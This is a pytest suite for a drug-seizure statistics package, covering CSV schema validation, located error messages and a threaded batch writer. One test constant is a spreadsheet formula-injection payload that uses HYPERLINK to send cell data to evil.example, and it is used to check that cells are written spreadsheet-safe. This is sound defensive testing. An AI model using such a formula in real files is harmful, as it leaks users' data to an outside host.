"""bulletin.data.tables: every schema rule refused with a message naming file, line, column and rule."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from bulletin.core.paths import DATA_DIR
from bulletin.data.tables import TableError, load_table, table_specs, write_table

HEADER = "country,year,quarter,drug,kg,source,status"
GOOD = "KAZ,2017,1,heroin,12.5,reconstructed from the bulletin text,reconstructed"


def write_csv(folder: Path, lines: list[str], name: str = "seizures_quarterly") -> Path:
    path = folder / f"{name}.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def load_error(folder: Path, lines: list[str]) -> TableError:
    write_csv(folder, lines)
    with pytest.raises(TableError) as caught:
        load_table("seizures_quarterly", folder)
    return caught.value


def test_good_table_loads_typed(tmp_path):
    write_csv(tmp_path, [HEADER, GOOD])
    table = load_table("seizures_quarterly", tmp_path)
    assert table.dtypes["year"] == "int64"
    assert table.dtypes["kg"] == "float64"
    assert table.loc[0, "kg"] == 12.5


@pytest.mark.parametrize(
    ("lines", "line", "column", "expected"),
    [
        (["country,year,quarter,drug,source,status", "KAZ,2017,1,heroin,x,official"], 1, "kg", "must have"),
        ([HEADER + ",extra", GOOD + ",1"], 1, "extra", "only the table's columns"),
        ([HEADER, "KAZ,2017,1,heroin,twelve,x,official"], 2, "kg", "a number"),
        ([HEADER, GOOD, "KAZ,2017,2,heroin,-3,x,official"], 3, "kg", "zero or more"),
        ([HEADER, "XKZ,2017,1,heroin,1,x,official"], 2, "country", "ISO3 code"),
        ([HEADER, "KAZ,2017,1,krokodil,1,x,official"], 2, "drug", "drugs.csv"),
        ([HEADER, GOOD, GOOD], 3, "country, year, quarter, drug", "no other line has"),
        ([HEADER, "KAZ,2017,5,heroin,1,x,official"], 2, "quarter", "from 1 to 4"),
        ([HEADER, "KAZ,2017,1,heroin,1,x,rumour"], 2, "status", "official, stated, reconstructed, estimate"),
        ([HEADER, "KAZ,2017,1,heroin,1,,official"], 2, "source", "a value"),
    ],
    ids=[
        "missing-column",
        "extra-column",
        "non-numeric-kg",
        "negative-kg",
        "unknown-country",
        "unknown-drug",
        "duplicate-key",
        "quarter-out-of-range",
        "unknown-status",
        "empty-source",
    ],
)
def test_schema_rule_refused_with_location(tmp_path, lines, line, column, expected):
    error = load_error(tmp_path, lines)
    message = str(error)
    assert str(tmp_path / "seizures_quarterly.csv") in message
    assert any(p.line == line and p.column == column for p in error.problems), message
    assert f"line {line}, column '{column}'" in message
    assert expected in message


def test_every_problem_of_a_file_is_reported_at_once(tmp_path):
    error = load_error(
        tmp_path,
        [HEADER, "KAZ,2017,1,heroin,abc,x,official", "KAZ,2017,7,opium,1,x,official"],
    )
    assert {(p.line, p.column) for p in error.problems} == {(2, "kg"), (3, "quarter")}


def test_ragged_row_refused(tmp_path):
    error = load_error(tmp_path, [HEADER, GOOD + ",surplus"])
    assert "line 2: got '8 fields'; expected 7 fields, as in the header" in str(error)


def test_empty_file_refused(tmp_path):
    (tmp_path / "seizures_quarterly.csv").write_text("")
    with pytest.raises(TableError, match="a header line"):
        load_table("seizures_quarterly", tmp_path)


def test_missing_table_names_folder(tmp_path):
    with pytest.raises(FileNotFoundError, match="seizures_quarterly"):
        load_table("seizures_quarterly", tmp_path)


def test_unknown_table_name_lists_the_contract():
    with pytest.raises(KeyError, match="seizures_annual"):
        load_table("seizures_monthly")


def test_failed_write_leaves_previous_file_untouched(tmp_path):
    path = write_csv(tmp_path, [HEADER, GOOD])
    before = path.read_bytes()
    bad = pd.DataFrame(
        {
            "country": ["KAZ"],
            "year": [2017],
            "quarter": [9],
            "drug": ["heroin"],
            "kg": [1.0],
            "source": ["x"],
            "status": ["official"],
        }
    )
    with pytest.raises(TableError, match="quarter"):
        write_table("seizures_quarterly", bad, tmp_path)
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["seizures_quarterly.csv"]


def test_write_sorts_by_key_and_round_trips(tmp_path):
    frame = pd.DataFrame(
        {
            "country": ["KGZ", "KAZ"],
            "year": [2017, 2017],
            "quarter": [1, 1],
            "drug": ["heroin", "heroin"],
            "kg": [2.0, 1.0],
            "source": ["x", "x"],
            "status": ["official", "official"],
        }
    )
    write_table("seizures_quarterly", frame, tmp_path)
    table = load_table("seizures_quarterly", tmp_path)
    assert table["country"].tolist() == ["KAZ", "KGZ"]


def test_contract_names_all_tables():
    assert set(table_specs()) == {
        "seizures_quarterly",
        "seizures_annual",
        "seizure_cases",
        "drug_offences",
        "drug_arrests",
        "indicators",
        "activities",
    }


@pytest.mark.parametrize("name", sorted(table_specs()))
def test_shipped_tables_meet_their_schema(name):
    path = DATA_DIR / f"{name}.csv"
    if not path.exists():
        pytest.skip(f"{path.name} is not shipped yet")
    table = load_table(name, DATA_DIR)
    assert not table.empty
    assert set(table["status"]) <= {"official", "stated", "reconstructed", "estimate"}


def test_whole_numbers_in_a_float_column_load_as_floats(tmp_path):
    write_csv(tmp_path, [HEADER, "KAZ,2017,1,heroin,12,x,official", "KGZ,2017,1,heroin,3,x,official"])
    table = load_table("seizures_quarterly", tmp_path)
    assert table.dtypes["kg"] == "float64"


# Issue 12: messages that name the place as an editor shows it, and cells safe in a spreadsheet.


def test_header_only_table_loads_as_an_empty_table(tmp_path):
    write_csv(tmp_path, [HEADER])
    table = load_table("seizures_quarterly", tmp_path)
    assert table.empty
    assert list(table.columns) == HEADER.split(",")
    assert table.dtypes["year"] == "int64" and table.dtypes["kg"] == "float64"


def test_an_empty_whole_number_cell_is_reported_once_without_type_jargon(tmp_path):
    error = load_error(tmp_path, [HEADER, GOOD, "KGZ,,1,heroin,1,x,official"])
    assert [(p.line, p.column) for p in error.problems] == [(3, "year")]
    assert "dtype" not in str(error) and "Int64" not in str(error)


@pytest.mark.parametrize(
    "before",
    [
        ["", GOOD],  # a blank line
        ['KAZ,2017,1,heroin,12.5,"a source written\non two lines",reconstructed'],
        ["", 'KAZ,2017,1,heroin,12.5,"a source\r\nwritten on two lines",reconstructed'],
    ],
    ids=["blank-line", "quoted-cell-on-two-lines", "both-crlf"],
)
def test_lines_are_counted_as_an_editor_counts_them(tmp_path, before):
    bad = "KGZ,2017,2,heroin,-3,x,official"
    lines = [HEADER, *before, bad]
    path = tmp_path / "seizures_quarterly.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    editor_line = path.read_text().splitlines().index(bad) + 1
    with pytest.raises(TableError) as caught:
        load_table("seizures_quarterly", tmp_path)
    assert [(p.line, p.column) for p in caught.value.problems] == [(editor_line, "kg")]


def test_a_ragged_record_is_named_on_its_first_line(tmp_path):
    error = load_error(tmp_path, [HEADER, "", 'KAZ,2017,1,heroin,1,"x\ny",official,extra'])
    assert [p.line for p in error.problems] == [3]


def test_a_field_over_the_size_limit_names_file_line_column_and_the_likely_cause(tmp_path):
    huge = "x" * 200_000
    error = load_error(tmp_path, [HEADER, GOOD, f'KAZ,2017,2,heroin,1,"{huge}",official'])
    message = str(error)
    assert str(tmp_path / "seizures_quarterly.csv") in message
    assert "line 3, column 'source'" in message
    assert "131,072 characters" in message and "quote" in message


def test_an_unclosed_quote_is_named_on_the_line_it_opens(tmp_path):
    error = load_error(tmp_path, [HEADER, 'KAZ,2017,1,heroin,1,"unclosed,official', GOOD, GOOD])
    assert [p.line for p in error.problems] == [2]
    assert "runs from line 2 to line 4" in str(error)


def test_a_column_named_twice_is_refused_in_plain_words(tmp_path):
    error = load_error(tmp_path, [HEADER + ",kg", GOOD + ",1"])
    assert [(p.line, p.column) for p in error.problems] == [(1, "kg")]
    assert "each column once" in str(error)


def test_a_file_that_is_not_utf8_names_the_line(tmp_path):
    path = tmp_path / "seizures_quarterly.csv"
    path.write_bytes(f"{HEADER}\n{GOOD}\nKAZ,2017,2,heroin,1,Кыргызстан,official\n".encode("cp1251"))
    with pytest.raises(TableError, match="line 3") as caught:
        load_table("seizures_quarterly", tmp_path)
    assert "UTF-8" in str(caught.value)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-cmd", "@SUM(A1)", "'=quoted already", "'plain quote", "-12.5"]
)
def test_text_cells_are_written_spreadsheet_safe_and_read_back_unchanged(tmp_path, text):
    frame = pd.DataFrame(
        {
            "country": ["KAZ"],
            "year": [2017],
            "quarter": [1],
            "drug": ["heroin"],
            "kg": [1.5],
            "source": [text],
            "status": ["official"],
        }
    )
    path = write_table("seizures_quarterly", frame, tmp_path)
    with path.open(newline="") as handle:
        cell = list(csv.DictReader(handle))[0]["source"]
    if text == "-12.5" or text == "'plain quote":
        assert cell == text  # a number, or a quote before no formula character: as it is
    else:
        assert cell == "'" + text  # a spreadsheet shows it as text, never runs it
    assert load_table("seizures_quarterly", tmp_path).loc[0, "source"] == text


def test_seizure_cases_written_spreadsheet_safe_and_read_back_unchanged(tmp_path):
    from bulletin.data import cases

    frame = pd.DataFrame(
        {
            "case_id": ["=1+1", "B"],
            "date": ["2016", "2016"],
            "country": ["KGZ", "KGZ"],
            "drug": ["heroin", "heroin"],
            "kg": ["1.5", "2"],
            "producing_country": ["", ""],
            "departure_country": ["", ""],
            "transit_countries": ["", ""],
            "destination_country": ["", ""],
            "source": [FORMULA, "plain"],
            "status": ["official", "official"],
        }
    )
    frame.to_csv(tmp_path / "seizure_cases.csv", index=False)
    table = cases.read_cases(tmp_path)  # a file not written by the project: read as it is
    out = tmp_path / "out"
    cases.write_cases(table, out)
    text = (out / "seizure_cases.csv").read_text()
    assert "'=1+1" in text and "'=HYPERLINK" in text
    back = cases.read_cases(out)
    assert back.column("case_id").to_pylist() == ["=1+1", "B"]
    assert back.column("source").to_pylist() == [FORMULA, "plain"]
    assert load_table("seizure_cases", out)["source"].tolist() == [FORMULA, "plain"]


def _cases_in_two_chunks():
    """Rows of ``seizure_cases`` in two chunks whose dictionaries differ, and their text.

    The text is what the file must hold for them (pyarrow's CSV of those values): categories
    decoded, an empty or missing cell written as nothing, a formula with a leading ``'``,
    kilograms as decimal numbers.
    """
    import pyarrow as pa

    def chunk(first: int, countries: list[str]) -> tuple[pa.Table, pa.Table]:
        rows = len(countries)
        ids = [f"C-{first + i:03d}" for i in range(rows)]
        if first == 0:
            ids[:2] = ["", "=1+1"]  # in case_id order still: the writer keeps it
        kg = [None if i == 1 else 0.5 * i for i in range(rows)]
        transit = [None if first else "", "KAZ;RUS"] * (rows // 2)  # "" is written as nothing
        rows_in = pa.table(
            {
                "case_id": ids,
                "country": pa.array(countries).dictionary_encode(),
                "kg": pa.array(kg),
                "transit_countries": pa.array(transit).dictionary_encode(),
            }
        )
        text = pa.table(
            {
                "case_id": ["'=1+1" if i == "=1+1" else i or None for i in ids],
                "country": countries,
                "kg": [None if v is None else repr(v) for v in kg],  # "0.0", "1.5", "2.0"
                "transit_countries": [t or None for t in transit],
            }
        )
        return rows_in, text

    (one, one_text), (two, two_text) = chunk(0, ["KGZ", "TJK"] * 4), chunk(8, ["UZB", "KGZ", "AFG", "RUS"])
    return pa.concat_tables([one, two]), pa.concat_tables([one_text, two_text])


def test_seizure_cases_written_batch_by_batch_are_the_csv_of_the_whole_table(monkeypatch):
    """The writer makes the text a batch at a time, on several threads: the file is pyarrow's CSV
    of the whole table's text, byte for byte, whatever the batches and the chunks' dictionaries."""
    import io

    import pyarrow.csv as pacsv

    from bulletin.data import cases_csv

    table, text = _cases_in_two_chunks()
    assert table.column("country").num_chunks == 2  # two dictionaries, in different orders
    expected = io.BytesIO()
    pacsv.write_csv(text, expected)
    assert b'"0.0"' in expected.getvalue() and b"\"'=1+1\"" in expected.getvalue()
    for rows in (3, 5, 12, 65_536):
        monkeypatch.setattr(cases_csv, "_BATCH_ROWS", rows)
        written = io.BytesIO()
        cases_csv.cases_writer(table)(written)
        assert written.getvalue() == expected.getvalue(), rows
        backwards = io.BytesIO()
        cases_csv.cases_writer(table.take(list(range(table.num_rows))[::-1]))(backwards)
        assert backwards.getvalue() == expected.getvalue(), rows  # sorted by case_id again
    empty = io.BytesIO()
    cases_csv.cases_writer(table.slice(0, 0))(empty)
    assert empty.getvalue() == b'"case_id","country","kg","transit_countries"\n'


def test_seizure_cases_batches_are_written_in_order_whichever_is_ready_first(monkeypatch):
    """A batch whose text takes longer (the first, here) still comes first in the file."""
    import io
    import threading

    from bulletin.data import cases_csv

    table, _ = _cases_in_two_chunks()
    monkeypatch.setattr(cases_csv, "_BATCH_ROWS", 3)
    in_order = io.BytesIO()
    cases_csv.cases_writer(table)(in_order)
    made = cases_csv._csv_rows
    later_ones_done = threading.Event()
    calls = []

    def first_one_last(batch, text):
        calls.append(batch)
        if len(calls) == 1:
            assert later_ones_done.wait(10), "the other batches were not made meanwhile"
        elif len(calls) == 3:
            later_ones_done.set()
        return made(batch, text)

    monkeypatch.setattr(cases_csv, "_csv_rows", first_one_last)
    monkeypatch.setattr(cases_csv.os, "cpu_count", lambda: 2)
    delayed = io.BytesIO()
    cases_csv.cases_writer(table)(delayed)
    assert delayed.getvalue() == in_order.getvalue()


def test_seizure_cases_writer_stops_making_batches_when_the_file_fails(monkeypatch):
    """A file that fails (a full disk) ends the writing with its error, and the batches not yet
    begun are not made."""
    import io
    import threading

    from bulletin.data import cases_csv

    table, _ = _cases_in_two_chunks()  # 12 rows: 12 batches of one
    monkeypatch.setattr(cases_csv, "_BATCH_ROWS", 1)
    monkeypatch.setattr(cases_csv.os, "cpu_count", lambda: 2)
    made = cases_csv._csv_rows
    begun: list[int] = []
    release = threading.Event()

    def held(batch, text):  # the first batch at once; the others wait until the file has failed
        begun.append(1)
        if len(begun) > 1:
            release.wait(10)
        return made(batch, text)

    class FullDisk(io.BytesIO):
        def write(self, data: bytes) -> int:
            if self.tell():  # the first batch, after the header
                threading.Timer(1.0, release.set).start()
                raise OSError(28, "No space left on device")
            return super().write(data)

    monkeypatch.setattr(cases_csv, "_csv_rows", held)
    with pytest.raises(OSError, match="No space left"):
        cases_csv.cases_writer(table)(FullDisk())
    # Five batches were handed to the two threads: the first, at most two begun meanwhile (a
    # thread may not have taken its next batch yet), never the two or more still queued.
    assert len(begun) <= 3, begun


def test_seizure_cases_a_smaller_table_is_cut_for_every_thread(monkeypatch):
    """Two batches per thread, of at least 4,096 rows, for a table under the batch size; batches
    of 65,536 rows at most for a larger one."""
    import io

    import pyarrow as pa

    from bulletin.data import cases_csv

    made = cases_csv._csv_rows
    sizes: list[int] = []

    def counted(batch, text):
        sizes.append(batch.num_rows)
        return made(batch, text)

    monkeypatch.setattr(cases_csv, "_csv_rows", counted)
    monkeypatch.setattr(cases_csv.os, "cpu_count", lambda: 2)
    for rows, expected in ((37_439, [9_360] * 3 + [9_359]), (10_000, [4_096, 4_096, 1_808]),
                           (300_000, [65_536] * 4 + [37_856])):
        sizes.clear()
        ids = pa.array([f"C-{i:06d}" for i in range(rows)])
        cases_csv.cases_writer(pa.table({"case_id": ids, "kg": pa.array([1.0] * rows)}))(
            io.BytesIO()
        )
        assert sizes == expected, rows


def test_seizure_cases_writer_holds_few_batches_while_the_file_is_slow(monkeypatch):
    """While the file is slow to take a batch, no more than two batches per thread are made
    ahead of it: a million cases are not held as text at once."""
    import io
    import threading

    from bulletin.data import cases_csv

    table, _ = _cases_in_two_chunks()  # 12 rows: 12 batches of one
    monkeypatch.setattr(cases_csv, "_BATCH_ROWS", 1)
    monkeypatch.setattr(cases_csv.os, "cpu_count", lambda: 2)
    made = cases_csv._csv_rows
    count = []
    all_made = threading.Event()

    def counted(batch, text):
        count.append(1)
        if len(count) == table.num_rows:
            all_made.set()
        return made(batch, text)

    class SlowFile(io.BytesIO):
        ahead: int | None = None

        def write(self, data: bytes) -> int:
            if self.tell() and self.ahead is None:  # the first batch, after the header
                all_made.wait(0.5)  # time enough for the threads to make every batch
                self.ahead = len(count)
            return super().write(data)

    monkeypatch.setattr(cases_csv, "_csv_rows", counted)
    out = SlowFile()
    cases_csv.cases_writer(table)(out)
    assert out.ahead is not None and out.ahead <= 2 * 2 + 1, out.ahead


def test_seizure_cases_problems_name_the_editor_s_line(tmp_path):
    from bulletin.data import cases

    header = (
        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
        "destination_country,source,status"
    )
    good = 'A,2016,KGZ,heroin,1,,,,,"two\nlines",official'
    bad = "B,2016,XXX,heroin,1,,,,,s,official"
    (tmp_path / "seizure_cases.csv").write_text(f"{header}\n\n{good}\n{bad}\n")
    with pytest.raises(TableError) as caught:
        cases.read_cases(tmp_path)
    assert [(p.line, p.column) for p in caught.value.problems] == [(5, "country")]


def test_seizure_cases_each_coded_column_is_checked_against_its_vocabulary(tmp_path):
    from bulletin.data import cases

    header = (
        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
        "destination_country,source,status"
    )
    rows = [
        "A,2016-03-21,KGZ,heroin,1,AFG,TJK,TJK;KGZ,RUS,s,official",  # line 2: every rule kept
        "B,2016,KGZ,snow,1,,,,,s,official",
        "C,2016,KGZ,heroin,1,XXX,,,,s,official",
        "D,2016,KGZ,heroin,1,,XXX,,,s,official",
        "E,2016,KGZ,heroin,1,,,KGZ;XXX,,s,official",
        "F,2016,KGZ,heroin,1,,,,XXX,s,official",
        "G,21/03/2016,KGZ,heroin,1,,,,,s,official",
        "H,2016,KGZ,heroin,1,,,,,s,guessed",
    ]
    (tmp_path / "seizure_cases.csv").write_text("\n".join([header, *rows]) + "\n")
    with pytest.raises(TableError) as caught:
        cases.read_cases(tmp_path)
    assert sorted((p.line, p.column) for p in caught.value.problems) == [
        (3, "drug"),
        (4, "producing_country"),
        (5, "departure_country"),
        (6, "transit_countries"),
        (7, "destination_country"),
        (8, "date"),
        (9, "status"),
    ]


def test_shipped_tables_are_written_back_byte_for_byte(tmp_path):
    for name in table_specs():
        path = DATA_DIR / f"{name}.csv"
        write_table(name, load_table(name, DATA_DIR), tmp_path)
        assert (tmp_path / f"{name}.csv").read_bytes() == path.read_bytes(), name


@pytest.mark.parametrize("value", ["99999999999999999999", "9.223372036854776e+18", "1e309"])
def test_a_whole_number_too_large_for_the_table_is_refused(tmp_path, value):
    error = load_error(tmp_path, [HEADER, f"KAZ,{value},1,heroin,1,x,official"])
    assert [(p.line, p.column) for p in error.problems] == [(2, "year")]
    assert "at most 19 digits" in str(error)


def test_seizure_cases_not_utf8_in_the_header_is_refused_with_its_line(tmp_path):
    from bulletin.data import cases

    (tmp_path / "seizure_cases.csv").write_bytes("Öcase_id,date\n".encode("latin-1"))
    with pytest.raises(TableError, match="line 1") as caught:
        cases.read_cases(tmp_path)
    assert "UTF-8" in str(caught.value)


def test_seizure_cases_with_a_stray_quote_in_the_header_is_refused(tmp_path):
    from bulletin.data import cases

    header = (
        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
        'destination_country,source,status"'
    )
    (tmp_path / "seizure_cases.csv").write_text(f"{header}\nA,2016,KGZ,heroin,1,,,,,s,official\n")
    with pytest.raises(TableError) as caught:
        cases.read_cases(tmp_path)
    assert (1, 'status"') in {(p.line, p.column) for p in caught.value.problems}


def test_seizure_cases_with_a_problem_and_a_field_over_the_csv_limit(tmp_path):
    from bulletin.data import cases

    header = (
        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
        "destination_country,source,status"
    )
    row = "A,2016,KGZ,heroin,1,,,,,s,official"
    huge = "A,2016,KGZ,heroin,1,,,,," + "x" * 200_000 + ",official"
    (tmp_path / "seizure_cases.csv").write_text(f"{header}\n{row}\n{huge}\n")
    with pytest.raises(TableError) as caught:
        cases.read_cases(tmp_path)
    places = {(p.line, p.column) for p in caught.value.problems}
    assert (2, "case_id") in places and (3, "case_id") in places  # the same case twice
    assert any("131,072 characters" in p.expected for p in caught.value.problems)


def test_decimals_are_read_exactly_whatever_pandas_version(tmp_path):
    # pandas before 3.0 read "0.11660999999999999" as 0.1166099999999999 (one unit in the last
    # place off), so a table read and written back changed (seen on Python 3.10 with pandas 2.3).
    write_csv(tmp_path, [HEADER, GOOD.replace(",12.5,", ",0.11660999999999999,")])
    frame = load_table("seizures_quarterly", tmp_path)
    assert frame["kg"].iloc[0] == float("0.11660999999999999")
    write_table("seizures_quarterly", frame, tmp_path)
    assert ",0.11660999999999999," in (tmp_path / "seizures_quarterly.csv").read_text()


def test_a_nul_character_in_a_text_cell_is_refused_with_its_line_and_column(tmp_path):
    # Python 3.10's csv writer cannot write it (and 3.11 wrote it raw): refused when read.
    error = load_error(tmp_path, [HEADER, "KAZ,2017,1,heroin,1,x\x00y,reconstructed"])
    assert [(p.line, p.column) for p in error.problems] == [(2, "source")]
    assert "\x00" not in str(error)  # shown escaped where it is shown at all
    assert "expected text without the NUL character (\\x00)" in str(error)


def test_a_broken_rule_shows_the_cell_as_the_file_has_it(tmp_path):
    # "-1" was shown as '-1.0', the number it was converted to before the rule was checked.
    error = load_error(tmp_path, [HEADER, GOOD.replace(",12.5,", ",-1,")])
    assert "column 'kg': got '-1'; expected" in str(error)
